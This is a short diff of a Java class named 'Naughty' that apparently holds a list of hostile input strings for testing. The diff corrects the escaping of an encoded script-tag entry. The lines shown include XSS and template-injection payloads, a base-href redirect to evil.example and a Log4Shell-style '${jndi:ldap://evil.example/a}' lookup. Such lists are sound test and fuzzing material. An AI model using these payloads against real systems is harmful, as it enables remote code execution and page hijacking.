@@ -33,7 +33,7 @@ public final class Naughty {
                 "<base href=//evil.example/><meta http-equiv=refresh content=0>",
                 "<!--<body>--><![CDATA[",
                 "&lt;b&gt;&#x3c;script&#x3e;&amp;",
-                "\u003Cscript\u003E" + run + "\\u003c/script\\u003e",
+                "\\u003Cscript\\u003E" + run + "\\u003c/script\\u003e",
                 "{{constructor.constructor('" + run + "')()}}",
                 "${" + run + "}#{7*7}<%= 7*7 %>{% raw %}",
                 "${jndi:ldap://evil.example/a}",
